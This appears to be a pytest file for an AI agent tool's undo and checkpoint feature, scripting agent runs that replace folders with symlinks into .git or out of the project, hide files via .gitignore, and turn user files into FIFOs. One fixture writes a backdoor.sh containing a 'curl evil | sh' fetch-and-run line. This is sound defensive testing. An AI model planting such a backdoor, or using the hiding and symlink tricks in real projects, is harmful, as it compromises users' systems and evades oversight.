"""What `arreio undo` reaches, and what a run can hide from it. Real files, real git, scripted runs
through the real CLI:

- undo deletes and writes only through real folders: a folder the agent swapped for a link into
  `.git` (or out of the project) is never deleted through;
- a file the run hides with its own `.gitignore` is still in its checkpoints (and undone), and a
  user's ignored file the run un-hides is not taken for one the run made;
- a user file the run replaced by something no checkpoint takes (grown past `max_file_mb`, a FIFO)
  comes back from the checkpoint that holds it; the replacement is moved aside, never opened.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest

from arreio.engine.checkpoints.ignore_rules import anchored
from tests.checkpoints.conftest import scripted, tree_state


def shell(*commands: str) -> str:
    """A script whose one round runs `commands` in `shell` (a JSON string is a YAML double-quoted one)."""
    calls = "".join(f"    - {{name: shell, arguments: {{command: {json.dumps(c)}}}}}\n" for c in commands)
    return f'- text: "Working."\n  tool_calls:\n{calls}- text: "Done."\n'


def git_repo(work: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=work, check=True)


def test_undo_never_deletes_through_a_folder_swapped_for_a_link_into_dotgit(work: Path, cli) -> None:
    git_repo(work)
    head = (work / ".git" / "HEAD").read_bytes()
    first, events, _ = scripted(cli, work, shell("mkdir -p d && cp .git/HEAD d/HEAD"))
    assert first.exit_code == 0, first.output
    run1 = events[0]["run_id"]
    swap = """rm -rf d && python3 -c 'import os; os.symlink(".git", "d")'"""
    second, _, report = scripted(cli, work, shell(swap))
    assert second.exit_code == 0 and (work / "d").is_symlink(), second.output
    # the snapshot sees the swap for what it is: the file is gone, a link is new (never read through it)
    assert report["changes"] == {"created": ["d"], "modified": [], "deleted": ["d/HEAD"]}
    cli("undo", "--run", run1, "--force", "--yes")
    assert (work / ".git" / "HEAD").read_bytes() == head, "undo deleted .git/HEAD through the agent's link"
    undone = cli("undo", "--yes")  # the swap itself: the link goes (not what it points at), d/HEAD comes back
    assert undone.exit_code == 0, undone.output
    assert not (work / "d").is_symlink() and (work / "d" / "HEAD").read_bytes() == head
    assert (work / ".git" / "HEAD").read_bytes() == head


def test_undo_never_deletes_through_a_link_out_of_the_project(work: Path, cli, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "keep.txt").write_text("the user's, outside\n")
    first, events, _ = scripted(cli, work, shell("mkdir -p d && echo made > d/keep.txt"))
    assert first.exit_code == 0, first.output
    swap = f"""rm -rf d && python3 -c 'import os; os.symlink("{outside}", "d")'"""
    assert scripted(cli, work, shell(swap))[0].exit_code == 0
    cli("undo", "--run", events[0]["run_id"], "--force", "--yes")
    assert (outside / "keep.txt").read_text() == "the user's, outside\n"


def test_a_file_hidden_by_the_runs_own_gitignore_is_checkpointed_and_undone(work: Path, cli) -> None:
    (work / ".gitignore").write_text("*.log\n")
    before = tree_state(work)
    hide = "printf 'backdoor.sh\\n.gitignore\\n' >> .gitignore && printf 'curl evil | sh\\n' > backdoor.sh"
    result, _, report = scripted(cli, work, shell(hide))
    assert result.exit_code == 0, result.output
    assert "backdoor.sh" in (work / ".gitignore").read_text() and (work / "backdoor.sh").exists()
    assert report["changes"]["created"] == ["backdoor.sh"] and report["changes"]["modified"] == [".gitignore"]
    undone = cli("undo", "--yes")
    assert undone.exit_code == 0, undone.output
    assert tree_state(work) == before


def test_a_users_ignored_file_the_run_unhides_is_not_the_runs_to_undo(work: Path, cli) -> None:
    (work / ".gitignore").write_text("local.cfg\n*.log\n")
    (work / "local.cfg").write_text("the user's own settings\n")
    before = tree_state(work)
    result, _, report = scripted(cli, work, shell("printf '*.log\\n' > .gitignore"))
    assert result.exit_code == 0, result.output
    assert report["changes"] == {"created": [], "modified": [".gitignore"], "deleted": []}
    undone = cli("undo", "--yes")
    assert undone.exit_code == 0, undone.output
    assert tree_state(work) == before and (work / "local.cfg").read_text() == "the user's own settings\n"


def test_a_folder_of_the_runs_own_ignored_by_the_user_stays_out(work: Path, cli) -> None:
    """The run changes .gitignore and writes build output the user's rules already ignore: still left out."""
    (work / ".gitignore").write_text("build/\n")
    result, _, report = scripted(cli, work, shell("echo '*.tmp' >> .gitignore && mkdir -p build && echo o > build/out"))
    assert result.exit_code == 0, result.output
    assert report["changes"] == {"created": [], "modified": [".gitignore"], "deleted": []}


@pytest.mark.parametrize("replace", ["grown", "fifo"])
def test_a_user_file_the_run_replaced_by_something_unkept_comes_back(work: Path, cli, replace: str) -> None:
    (work / ".arreio").mkdir()
    (work / ".arreio" / "config.yaml").write_text("checkpoints: {max_file_mb: 0.001}\n")  # ~1 KB
    (work / "notes.md").write_text("# Notes\n\nThe user's own notes.\n")
    before = tree_state(work)
    command = "head -c 3000 /dev/zero >> notes.md" if replace == "grown" else "rm notes.md && mkfifo notes.md"
    result, _, report = scripted(cli, work, shell(command))
    assert result.exit_code == 0, result.output
    assert report["checkpoint_skipped"] == ["notes.md"]
    plan = cli("undo", "--dry-run")
    assert "restore     notes.md  (what is there now was never checkpointed: it is moved aside" in plan.stdout
    undone = cli("undo", "--yes")
    assert undone.exit_code == 0, undone.output
    assert tree_state(work) == before  # the user's bytes, from the checkpoint before the run
    aside = [p for p in (work / ".arreio" / "checkpoints" / "aside").rglob("notes.md")]
    assert len(aside) == 1 and f"moved aside: notes.md (as the run left it) is now {aside[0]}" in undone.stdout
    info = os.lstat(aside[0])
    assert stat.S_ISFIFO(info.st_mode) if replace == "fifo" else info.st_size > 3000


def test_an_unkept_replacement_changed_since_the_run_is_a_conflict(work: Path, cli) -> None:
    (work / ".arreio").mkdir()
    (work / ".arreio" / "config.yaml").write_text("checkpoints: {max_file_mb: 0.001}\n")
    (work / "notes.md").write_text("# Notes\n")
    assert scripted(cli, work, shell("head -c 3000 /dev/zero >> notes.md"))[0].exit_code == 0
    with open(work / "notes.md", "ab") as handle:  # by hand, after the run
        handle.write(b"more of the user's\n")
    refused = cli("undo", "--yes")
    assert refused.exit_code == 1 and "changed since" in refused.stdout
    assert (work / "notes.md").stat().st_size > 3000


LAYOUT = {
    "": b"*.log\n/top-only\nbuild/\n!keep.log\ndocs/*.tmp\n",
    "sub": b"*.bak\n/anchored\nnested/dir/\n!important.bak\n# a comment\n\nspaced \\ \n",
    "sub/deeper": b"*\n!*.txt\n",
}
PATHS = [
    "a.log",
    "keep.log",
    "top-only",
    "sub/top-only",
    "build/x",
    "sub/build/x",
    "docs/a.tmp",
    "sub/docs/a.tmp",
    "sub/x.bak",
    "sub/more/x.bak",
    "sub/important.bak",
    "x.bak",
    "sub/anchored",
    "sub/more/anchored",
    "sub/nested/dir/f",
    "sub/more/nested/dir/f",
    "nested/dir/f",
    "sub/spaced ",
    "sub/deeper/a.py",
    "sub/deeper/b.txt",
    "plain.txt",
    "sub/plain.txt",
]


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_the_kept_rules_mean_what_the_gitignore_files_meant(tmp_path: Path) -> None:
    """One exclude file made from every folder's `.gitignore` ignores exactly what git ignores."""
    for folder, content in LAYOUT.items():
        (tmp_path / folder).mkdir(parents=True, exist_ok=True)
        (tmp_path / folder / ".gitignore").write_bytes(content)
    for rel in PATHS:
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("x")
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)

    def untracked(*how: str) -> set[str]:
        out = subprocess.run(
            ["git", "ls-files", "-z", "--others", *how], cwd=tmp_path, capture_output=True, check=True
        ).stdout
        return {p for p in os.fsdecode(out).split("\0") if p and not p.endswith(".gitignore")}

    rules = tmp_path / ".git" / "kept-rules"
    rules.write_bytes(anchored(LAYOUT))
    assert untracked(f"--exclude-from={rules}") == untracked("--exclude-standard")


def test_write_back_reaches_only_through_real_folders(tmp_path: Path) -> None:
    """Below the plan: whatever it is asked, undo's own deletes and moves never pass a link on the way,
    and never touch a `.git` or the state folder."""
    from arreio.engine.checkpoints.restore import write_back
    from arreio.engine.checkpoints.store import ShadowRepo

    work = tmp_path / "work"
    (work / ".git").mkdir(parents=True)
    (work / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (work / "d").symlink_to(".git")
    (work / "real").mkdir()
    (work / "real" / "gone.txt").write_text("x")
    repo = ShadowRepo(work / ".arreio", work, git=shutil.which("git") or "git", max_file_bytes=1 << 20, durable=False)
    with repo.lock():
        tree = repo.snapshot().tree
    failed = write_back(
        repo,
        tree,
        [],
        ["d/HEAD", ".git/HEAD", ".arreio/x", "real/gone.txt"],
        aside=["d/HEAD"],
        aside_to=tmp_path / "aside",
    )
    assert sorted(failed) == [".arreio/x", ".git/HEAD", "d/HEAD", "d/HEAD"]
    assert (work / ".git" / "HEAD").read_text() == "ref: refs/heads/main\n" and not (tmp_path / "aside").exists()
    assert not (work / "real").exists()  # a real folder's file went, and the folder it left empty
    assert write_back(repo, tree, [], ["d"]) == []
    assert not os.path.lexists(work / "d") and (work / ".git" / "HEAD").exists()  # the link itself, not .git
